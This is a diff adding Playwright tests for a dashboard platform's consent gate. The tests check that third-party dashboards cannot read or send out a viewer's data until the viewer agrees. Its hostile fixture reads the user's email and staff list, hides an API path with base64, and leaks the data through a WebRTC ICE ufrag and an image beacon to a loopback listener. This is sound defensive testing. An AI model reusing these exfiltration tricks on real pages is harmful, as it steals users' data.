@@ -1,0 +1,250 @@
+import dgram from "node:dgram";
+import net from "node:net";
+import { expect, test, type Browser, type Page } from "@playwright/test";
+import { expectNoSeriousViolations } from "./support/axe";
+import { ConsentGatePage } from "./support/consent";
+import { SignInPage } from "./support/pages";
+import { SavedDashboardPage } from "./support/saved-page";
+import { DraftAuthor, WatchPage } from "./support/watch-page";
+
+// Someone else's dashboard reads the viewer's live data only after the viewer agrees, and then
+// only the paths it was shown. Until then no frame exists: a hostile dashboard opened by the
+// admin sends nothing anywhere — counted at the socket, not at the HTTP layer.
+
+/** A TCP and a UDP listener on loopback, counting every connection and datagram. */
+class Listeners {
+  tcp = net.createServer();
+  udp = dgram.createSocket("udp4");
+  connections = 0;
+  bytes = 0;
+  datagrams = 0;
+  private sockets = new Set<net.Socket>();
+
+  async open(): Promise<void> {
+    this.tcp.on("connection", (s) => {
+      this.connections++;
+      this.sockets.add(s);
+      s.on("data", (d) => (this.bytes += d.length));
+      s.on("close", () => this.sockets.delete(s));
+      s.on("error", () => {});
+    });
+    this.udp.on("message", () => this.datagrams++);
+    await new Promise<void>((r) => this.tcp.listen(0, "127.0.0.1", r));
+    await new Promise<void>((r) => this.udp.bind(0, "127.0.0.1", r));
+  }
+
+  get tcpPort(): number {
+    return (this.tcp.address() as net.AddressInfo).port;
+  }
+  get udpPort(): number {
+    return this.udp.address().port;
+  }
+  seen() {
+    return { connections: this.connections, bytes: this.bytes, datagrams: this.datagrams };
+  }
+  async close(): Promise<void> {
+    for (const s of this.sockets) s.destroy();
+    await new Promise<void>((r) => this.tcp.close(() => r()));
+    await new Promise<void>((r) => this.udp.close(() => r()));
+  }
+}
+
+let listeners: Listeners;
+test.beforeEach(async () => {
+  listeners = new Listeners();
+  await listeners.open();
+});
+test.afterEach(async () => {
+  await listeners.close();
+});
+
+/**
+ * Reads the viewer's email and the admin-only staff list, tries a read its code does not name,
+ * then aims the data at the listeners over WebRTC and an image.
+ */
+function hostile(label: string): string {
+  return `<!doctype html><title>${label}</title>
+<p id="got">waiting</p><p id="extra">waiting</p><p id="rtc">waiting</p>
+<script>
+(async () => {
+  const API = window.DASHBOARD_API_BASE || "/api";
+  const res = await fetch(API + "/me");
+  const me = res.ok ? await res.json() : { email: "status-" + res.status };
+  const staff = await fetch(API + "/crm/users/contacts");
+  const secret = me.email + "|" + (staff.ok ? (await staff.text()).length : staff.status);
+  document.getElementById("got").textContent = me.email;
+  // A path built where the check cannot read it: refused on live data.
+  const extra = await fetch(API + atob("L21lL2Zhdm91cml0ZXM="));
+  document.getElementById("extra").textContent = String(extra.status);
+  try {
+    const hex = Array.from(new TextEncoder().encode(secret)).map((b) => b.toString(16).padStart(2, "0")).join("").slice(0, 200);
+    const pc = new RTCPeerConnection({ iceServers: [] });
+    pc.createDataChannel("x");
+    await pc.setLocalDescription(await pc.createOffer());
+    await pc.setRemoteDescription({ type: "answer", sdp: ["v=0", "o=- 1 2 IN IP4 127.0.0.1", "s=-", "t=0 0", "a=group:BUNDLE 0",
+      "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 127.0.0.1", "a=mid:0", "a=ice-ufrag:" + hex.slice(0, 32),
+      "a=ice-pwd:" + "p".repeat(24), "a=fingerprint:sha-256 " + Array(32).fill("AA").join(":"), "a=setup:active", "a=sctp-port:5000", ""].join("\\r\\n") });
+    await pc.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 127.0.0.1 ${"${UDP}"} typ host", sdpMid: "0", sdpMLineIndex: 0 });
+    document.getElementById("rtc").textContent = "sent";
+  } catch (e) {
+    document.getElementById("rtc").textContent = "blocked " + (e && e.name);
+  }
+  // A navigation would replace this document; the frame-escape suite measures that channel.
+  const img = new Image();
+  img.src = "http://127.0.0.1:${"${TCP}"}/leak?s=" + encodeURIComponent(secret);
+  document.body.append(img);
+})();
+</script>`;
+}
+
+const armed = (html: string) => html.replaceAll("${UDP}", String(listeners.udpPort)).replaceAll("${TCP}", String(listeners.tcpPort));
+
+async function signIn(page: Page, email: string, next: string): Promise<void> {
+  await new SignInPage(page).open(next);
+  await new SignInPage(page).signInAs(email);
+}
+
+/** Every request the page itself sends to the viewer's API. */
+function apiRequests(page: Page): string[] {
+  const seen: string[] = [];
+  page.on("request", (r) => {
+    const u = new URL(r.url());
+    if (u.pathname.startsWith("/api/")) seen.push(u.pathname);
+  });
+  return seen;
+}
+
+test("a hostile live draft opened by the admin reads and sends nothing until the admin agrees", async ({ page, request }) => {
+  const draft = await new DraftAuthor(request).create(armed(hostile("Staff")), { dataMode: "live" });
+  const api = apiRequests(page);
+  await signIn(page, "admin@demo.test", new URL(draft.watchUrl).pathname);
+  const watch = new WatchPage(page);
+  const consent = new ConsentGatePage(page);
+
+  await expect(consent.gate()).toBeVisible();
+  await expect(consent.gate()).toContainText("anonymous author");
+  await expect(consent.paths()).toHaveText([/^\/crm\/users\/contacts/, /^\/me/]);
+  await expect(consent.gate()).toContainText("can send anything it reads out of your browser");
+  await expect(watch.provenance()).toContainText("waiting for your consent");
+  await expect(page.getByTestId("consent-gate").getByRole("heading")).toBeFocused();
+  await expectNoSeriousViolations(page);
+  // Nothing runs: no frame, no read of the viewer's API, nothing at the listeners.
+  await page.waitForTimeout(1500);
+  await expect(watch.frameElement()).toHaveCount(0);
+  expect(api).toEqual([]);
+  expect(listeners.seen()).toEqual({ connections: 0, bytes: 0, datagrams: 0 });
+
+  // Declining shows it on demo data: the frame runs, the viewer's API is never asked.
+  await consent.showWithDemoData();
+  await expect(consent.declined()).toBeVisible();
+  await expect(watch.dashboard().locator("#got")).not.toHaveText("waiting", { timeout: 15_000 });
+  await expect(watch.dashboard().locator("#got")).not.toHaveText("admin@demo.test");
+  await expect(watch.provenance()).toContainText("demo data instead of yours");
+  expect(api).toEqual([]);
+
+  // Asked again and agreed: the admin's own data, and only the paths shown.
+  await consent.declined().getByRole("button", { name: "Ask me again" }).click();
+  await expect(consent.gate()).toBeVisible();
+  await consent.runWithMyData();
+  await expect(watch.dashboard().locator("#got")).toHaveText("admin@demo.test", { timeout: 15_000 });
+  await expect(watch.dashboard().locator("#extra")).toHaveText("403");
+  await watch.openRequestLog();
+  await expect(watch.requestLogEntries().filter({ hasText: "/me/favourites" }).filter({ hasText: "live" })).toContainText("403");
+  expect(api).toEqual(expect.arrayContaining(["/api/me", "/api/crm/users/contacts"]));
+  expect(api).not.toContain("/api/me/favourites");
+});
+
+test("a new revision that reads more asks again; one that reads the same keeps running", async ({ page, request }) => {
+  const author = new DraftAuthor(request);
+  const reads = (paths: string[], label: string) =>
+    `<!doctype html><title>x</title><p id="label">${label}</p><script>const API = window.DASHBOARD_API_BASE || "/api";${paths
+      .map((p) => `fetch(API + "${p}").then((r) => r.ok && r.json());`)
+      .join("")}</script>`;
+  const draft = await author.create(reads(["/me"], "one"), { dataMode: "live" });
+  await signIn(page, "csm@demo.test", new URL(draft.watchUrl).pathname);
+  const watch = new WatchPage(page);
+  const consent = new ConsentGatePage(page);
+  await consent.runWithMyData();
+  await expect(watch.dashboard().locator("#label")).toHaveText("one");
+
+  await author.update(draft, reads(["/me"], "two"));
+  await expect(watch.dashboard().locator("#label")).toHaveText("two");
+  await expect(consent.gate()).toHaveCount(0);
+
+  await author.update(draft, reads(["/me", "/cx/owners"], "three"));
+  await expect(consent.gate()).toBeVisible();
+  await expect(consent.gate().getByRole("heading")).toHaveText(/changed/);
+  await expect(consent.paths()).toHaveText([/^\/cx\/owners/, /^\/me/]);
+  await consent.runWithMyData();
+  await expect(watch.dashboard().locator("#label")).toHaveText("three");
+});
+
+/** csm saves the dashboard from a demo draft's watch page, as a person does. */
+async function savedByCsm(browser: Browser, baseURL: string, html: string, slug: string): Promise<string> {
+  const context = await browser.newContext({ baseURL });
+  try {
+    const page = await context.newPage();
+    const draft = await new DraftAuthor(page.request).create(html, { dash: slug });
+    await signIn(page, "csm@demo.test", new URL(draft.watchUrl).pathname);
+    await page.getByRole("button", { name: "Save to my space" }).click();
+    const form = page.getByRole("form", { name: "Save to my space" });
+    await form.getByRole("button", { name: "Save", exact: true }).click();
+    await expect(form.getByRole("status")).toHaveText(`Saved: /~/csm/${slug}`);
+    return `/~/csm/${slug}`;
+  } finally {
+    await context.close();
+  }
+}
+
+test("someone else's saved dashboard asks first; trusting its author is remembered and can be taken back", async ({ page, browser, baseURL }) => {
+  const slug = `staff-${Date.now().toString(36)}`;
+  const path = await savedByCsm(browser, baseURL!, armed(hostile("Staff board")), slug);
+  listeners.connections = listeners.bytes = listeners.datagrams = 0;
+
+  const api = apiRequests(page);
+  await signIn(page, "admin@demo.test", path);
+  const saved = new SavedDashboardPage(page);
+  const consent = new ConsentGatePage(page);
+  await expect(saved.heading()).toHaveText("Staff board");
+  await expect(consent.gate()).toContainText("/~/csm");
+  await expect(consent.paths()).toHaveText([/^\/crm\/users\/contacts/, /^\/me/]);
+  await expect(saved.meta()).toContainText("waiting for your consent");
+  await page.waitForTimeout(1500);
+  await expect(page.getByTestId("dashboard-frame")).toHaveCount(0);
+  expect(api).toEqual([]);
+  expect(listeners.seen()).toEqual({ connections: 0, bytes: 0, datagrams: 0 });
+
+  await consent.choice("Always trust csm").click();
+  await expect(saved.dashboard().locator("#got")).toHaveText("admin@demo.test", { timeout: 15_000 });
+  await expect(saved.dashboard().locator("#extra")).toHaveText("403");
+
+  // Remembered on the server: the next visit runs at once, still held to the paths shown.
+  await page.goto(path);
+  await expect(saved.dashboard().locator("#got")).toHaveText("admin@demo.test", { timeout: 15_000 });
+  await expect(saved.dashboard().locator("#extra")).toHaveText("403");
+  await expect(consent.gate()).toHaveCount(0);
+
+  // Taken back from /connections: the question comes back.
+  await page.goto("/connections");
+  const trusted = page.getByTestId("trusted-authors");
+  await expect(trusted.getByTestId("trusted-author").filter({ hasText: "/~/csm" })).toHaveCount(1);
+  await expectNoSeriousViolations(page);
+  await trusted.getByRole("button", { name: "Stop trusting csm" }).click();
+  await expect(trusted.getByRole("status")).toContainText("ask before they use your data again");
+  await expect(trusted.getByTestId("trusted-author")).toHaveCount(0);
+  await page.goto(path);
+  await expect(consent.gate()).toBeVisible();
+});
+
+test("the viewer's own saved dashboard, and any demo draft, run without asking", async ({ page, request }) => {
+  await signIn(page, "csm@demo.test", "/~/csm/my-book");
+  const saved = new SavedDashboardPage(page);
+  await expect(saved.dashboard().locator("#rows tr").first()).toBeVisible({ timeout: 15_000 });
+  await expect(new ConsentGatePage(page).gate()).toHaveCount(0);
+
+  const draft = await new DraftAuthor(request).create(`<!doctype html><title>d</title><p id="x">demo</p>`);
+  const watch = new WatchPage(page);
+  await watch.open(draft.watchUrl);
+  await expect(watch.dashboard().locator("#x")).toHaveText("demo");
+  await expect(new ConsentGatePage(page).gate()).toHaveCount(0);
+});
